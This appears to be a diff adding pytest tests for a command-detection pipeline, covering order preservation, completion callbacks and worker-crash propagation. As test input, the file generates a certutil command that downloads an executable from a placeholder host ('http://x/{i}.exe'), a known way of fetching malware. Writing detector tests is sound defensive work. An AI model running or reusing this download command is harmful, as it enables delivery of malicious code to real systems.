@@ -0,0 +1,38 @@
+import os
+import pytest
+from pipeline import DetectionPipeline, PipelineError
+from detector import analyze_command
+
+
+def crash_on_poison(cmds):
+    if "poison" in cmds:
+        os._exit(3)
+    return [analyze_command(cmd) for cmd in cmds]
+
+
+def test_pipeline_preserves_order():
+    cmds = [f"certutil -urlcache -f http://x/{i}.exe" if i % 3 else f"ping host{i}"
+            for i in range(2000)]
+    seen = []
+    done = []
+    with DetectionPipeline(lambda cmd, result: seen.append((cmd, result["verdict"])),
+                           workers=2, batch_size=37, max_in_flight=3) as pipeline:
+        # on_done runs once everything submitted so far has been emitted
+        pipeline.submit(cmds[:1000], on_done=lambda: done.append(len(seen)))
+        pipeline.submit([], on_done=lambda: done.append(len(seen)))
+        pipeline.submit(cmds[1000:], on_done=lambda: done.append(len(seen)))
+    assert done == [1000, 1000, 2000]
+    assert [cmd for cmd, _ in seen] == cmds
+    assert seen == [(cmd, analyze_command(cmd)["verdict"]) for cmd in cmds]
+
+
+def test_pipeline_worker_crash_propagates():
+    seen = []
+    with pytest.raises(PipelineError):
+        with DetectionPipeline(lambda cmd, result: seen.append(cmd), workers=2,
+                               batch_size=1, worker=crash_on_poison) as pipeline:
+            pipeline.submit(["whoami", "poison"])
+            pipeline.failed.wait(10)
+            pipeline.submit(["ping 8.8.8.8"])
+    assert pipeline.failed.is_set()
+    assert "ping 8.8.8.8" not in seen